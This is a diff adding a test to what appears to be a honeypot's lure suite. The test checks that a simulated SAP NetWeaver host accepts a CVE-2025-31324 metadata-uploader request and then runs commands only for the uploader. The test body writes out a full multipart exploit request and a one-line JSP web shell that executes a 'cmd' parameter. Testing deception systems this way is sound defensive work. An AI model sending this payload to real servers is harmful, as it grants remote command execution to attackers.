@@ -326,6 +326,23 @@ describe('the lures', () => {
     expect(send(session(machine, '45.34.0.2'), get('/shell.jsp?pwd=j&cmd=id')).text).not.toMatch(id);
   });
 
+  it('run commands in the JSP that was uploaded to SAP NetWeaver, for who uploaded it', () => {
+    const machine = persona(['sap-netweaver']);
+    const body =
+      '--b\r\nContent-Disposition: form-data; name="file"; filename="helper.jsp"\r\nContent-Type: application/octet-stream\r\n\r\n<% Runtime.getRuntime().exec(request.getParameter("cmd")); %>\r\n--b--\r\n';
+    const upload = post(
+      '/developmentserver/metadatauploader?CONTENTTYPE=MODEL&CLIENT=1',
+      body,
+      'Content-Type: multipart/form-data; boundary=b\r\n',
+    );
+    expect(send(session(machine, '45.34.1.1'), get('/irj/helper.jsp?cmd=id')).text).not.toMatch(id);
+    const seen = send(session(machine, '45.34.1.1'), upload);
+    expect(seen.exploits.flatMap((fact) => fact.cves)).toContain('CVE-2025-31324');
+    expect(seen.text).toMatch(/FAILED$/);
+    expect(send(session(machine, '45.34.1.1'), get('/irj/helper.jsp?cmd=id')).text).toMatch(id);
+    expect(send(session(machine, '45.34.1.2'), get('/irj/helper.jsp?cmd=id')).text).not.toMatch(id);
+  });
+
   it('answer the same for any split of the request, and never throw on bytes that are none', () => {
     const machine = persona(['*']);
     fc.assert(
